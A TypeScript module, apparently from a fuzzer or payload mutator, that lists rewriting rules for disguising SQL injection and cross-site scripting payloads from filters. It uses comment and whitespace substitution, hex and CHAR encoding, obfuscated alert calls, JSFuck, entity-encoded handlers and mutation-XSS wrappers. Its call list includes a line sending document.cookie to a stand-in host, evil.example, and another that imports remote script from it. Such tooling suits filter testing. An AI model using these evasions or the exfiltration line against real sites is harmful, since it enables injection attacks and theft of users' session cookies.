import { type Rewriting, randomCase, swap } from './rewriting.ts';

const SQL_WORDS = /\b(union|select|from|where|or|and|all|insert|into|values|update|set|drop|table|exists|having|limit|case|when)\b/gi;

/** SQL. */
export const SQL: readonly Rewriting[] = [
  { name: 'SQL: random case', apply: randomCase },
  { name: 'SQL: comments for blanks', apply: (text, draw) => swap(text, / (?!-|$)/g, () => draw.of(['/**/', '/*x*/', '/*!*/', '/*--*/'])) },
  { name: 'SQL: versioned comments round words', apply: (text) => swap(text, SQL_WORDS, (word) => `/*!50000${word}*/`) },
  { name: 'SQL: line comments for blanks', apply: (text, draw) => swap(text, / (?!-|$)/g, () => draw.of(['--x\n', '#y\n', '-- \n'])) },
  { name: 'SQL: other white space', apply: (text, draw) => swap(text, / /g, () => draw.of(['\t', '\n', '\v', '\f', '\r', '\u00a0'])) },
  { name: 'SQL: signs for OR, AND', apply: (text) => swap(text, /\b(or|and)\b/gi, (word) => (word.toLowerCase() === 'or' ? '||' : '&&')) },
  {
    name: 'SQL: LIKE and IN for =',
    apply: (text, draw) =>
      swap(text, /=('?\w+'?)/g, (_, value) =>
        draw.of([` like ${value}`, ` in (${value})`, ` between ${value} and ${value}`, ` rlike ${value}`, `<=>${value}`]),
      ),
  },
  {
    name: 'SQL: numbers otherwise',
    apply: (text, draw) => swap(text, /\b1\b/g, () => draw.of(['1e0', '0x1', '1.', '(1)', '~-2', '+1', '1.0E0'])),
  },
  {
    name: 'SQL: strings as hexadecimal or CHAR',
    apply: (text, draw) =>
      swap(text, /'(\w+)'/g, (_, value) =>
        draw.of([
          `0x${Buffer.from(value!).toString('hex')}`,
          `CHAR(${[...value!].map((c) => c.charCodeAt(0)).join(',')})`,
          `CHR(${[...value!].map((c) => c.charCodeAt(0)).join(')||CHR(')})`,
          `N'${value}'`,
          `x'${Buffer.from(value!).toString('hex')}'`,
        ]),
      ),
  },
  {
    name: 'SQL: strings in pieces',
    apply: (text, draw) =>
      swap(text, /'(\w)(\w+)'/g, (_, a, b) => draw.of([`'${a}'||'${b}'`, `CONCAT('${a}','${b}')`, `'${a}' '${b}'`, `'${a}'+'${b}'`])),
  },
  {
    name: 'SQL: quoted and qualified names',
    apply: (text, draw) =>
      swap(text, /\b(users|accounts|password|username|user)\b(?!\()/g, (name) =>
        draw.of([`\`${name}\``, `"${name}"`, `[${name}]`, `public.${name}`]),
      ),
  },
  {
    name: 'SQL: brackets for blanks',
    apply: (text) => swap(swap(text, /\b(or|and) (\d+)=(\d+)/gi, '$1($2)=($3)') ?? text, /\b(union(?: all)?) select /gi, '$1(select '),
  },
  {
    name: 'SQL: other end of comment',
    apply: (text, draw) => swap(text, /-- ?-?$/, () => draw.of(['#', ';%00', '--+', '/*', '-- x', '--\t'])),
  },
  {
    name: 'SQL: another function that waits',
    apply: (text, draw) =>
      swap(text, /\bSLEEP\(5\)/gi, () =>
        draw.of(['BENCHMARK(9999999,MD5(1))', 'sleep (5)', 'SLEEP/**/(5)', '`sleep`(5)', 'GET_LOCK(0x61,5)']),
      ),
  },
];

const CALLS = [
  "top['al'+'ert'](1)",
  'window[`alert`]`1`',
  "eval(atob('YWxlcnQoMSk='))",
  '(alert)(1)',
  'alert?.(1)',
  'self[/al/.source+/ert/.source](1)',
  '\\u0061lert(1)',
  '\\u{61}lert(1)',
  '[1].find(alert)',
  'Function`al\\x65rt\\x281\\x29```',
  "import('data:text/javascript,alert(1)')",
  'setTimeout`al\\u0065rt\\u00281\\u0029`',
  "location='javascript:al'+'ert%281%29'",
  'onerror=alert;throw 1',
  'new Function`al\\ert\\`1\\``',
  'Reflect.apply(alert,null,[1])',
  'confirm(1)',
  'prompt`1`',
  "parent['\\x61lert'](1)",
  "globalThis[atob('YWxlcnQ=')](1)",
  'a=alert,a(1)',
  'alert.call(null,1)',
  "frames['alert'](1)",
  "document['write']('x')",
  "fetch('//evil.example/'+document.cookie)",
  'eval(location.hash.slice(1))',
  "eval('al'+'ert(1)')",
  "[]['filter']['constructor']('alert(1)')()",
  "import('//evil.example/x')",
  'alert/**/(1)',
  'with(document)alert(cookie)',
  'top[8680439..toString(30)](1)',
];

const JSFUCK =
  '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]])[+!+[]+[+[]]]]';

/** HTML and JavaScript. */
export const XSS: readonly Rewriting[] = [
  {
    name: 'JS: other calls',
    apply: (text, draw) => swap(text, /alert\((?:1|document\.cookie)\)/, () => draw.of(CALLS).replaceAll('"', "'")),
  },
  { name: 'JS: JSFuck', apply: (text) => swap(text, /alert\(1\)/, () => JSFUCK) },
  { name: 'HTML: random case', apply: (text, draw) => swap(text, /<\/?\w+|\bon\w+=|javascript:/gi, (match) => randomCase(match, draw)) },
  { name: 'HTML: slashes for blanks', apply: (text) => swap(text, /(<\w+|") (?=\w)/g, '$1/') },
  {
    name: 'HTML: tabs, line and form feeds for blanks',
    apply: (text, draw) => swap(text, / /g, () => draw.of(['\t', '\n', '\f', '\r', '\t/\n'])),
  },
  {
    name: 'HTML: blanks round the equals sign',
    apply: (text, draw) => swap(text, /(on\w+)=/gi, (_, name) => `${name}${draw.of([' = ', '\n=\t', ' =', '\f=\f'])}`),
  },
  { name: 'HTML: not closed', apply: (text) => swap(text, /(?:>[^<>]*<\/\w+>|>)$/, ' x=') },
  {
    name: 'HTML: entities in the handler',
    apply: (text, draw) =>
      swap(text, /alert\(1\)(?!<\/script)/g, () =>
        draw.of(['&#97;lert(1)', 'alert&lpar;1&rpar;', '&#x61&#x6c&#x65&#x72&#x74(1)', 'al&#0000101;rt&#40;1&#41;', 'alert&#x28;1&#x29']),
      ),
  },
  {
    name: 'HTML: javascript: in pieces',
    apply: (text, draw) =>
      swap(text, /javascript:/g, () =>
        draw.of([
          'java\tscript:',
          'java\nscript:',
          ' javascript:',
          '\u0001javascript:',
          'javascript&colon;',
          'JaVaScRiPt:',
          '&#106;avascript:',
          'java&Tab;script:',
          'javascript:void(0),',
          'javascript://%0a',
          'j\ra\nv\tascript:',
        ]),
      ),
  },
  {
    name: 'HTML: elements that do not exist',
    apply: (text) => swap(text, /^<(?:img src=x|body|svg|input|details open|marquee)/, '<x tabindex=1 autofocus'),
  },
  {
    name: 'HTML: other handlers',
    apply: (text, draw) =>
      swap(text, /onerror|onload|ontoggle|onfocus|onstart/, () =>
        draw.of([
          'onpointerenter',
          'onwheel',
          'onanimationend',
          'ontransitionrun',
          'onauxclick',
          'oncontentvisibilityautostatechange',
          'onscrollend',
          'onbeforeinput',
          'onformdata',
          'onsecuritypolicyviolation',
          'onpageshow',
          'onhashchange',
        ]),
      ),
  },
  { name: 'HTML: within an attribute that ends', apply: (text) => `x" y='><!--${text}` },
  {
    name: 'HTML: within svg, math, template',
    apply: (text, draw) =>
      draw.of([
        `<svg><desc>${text}</desc></svg>`,
        `<math><mtext><table><mglyph><style>${text}`,
        `<svg></p><style><a id="</style>${text}">`,
        `<form><math><mtext></form><form><mglyph><style></math>${text}`,
      ]),
  },
  { name: 'HTML: NUL in the tag', apply: (text) => swap(text, /<(\w)(\w*)/, '<$1\0$2') },
];
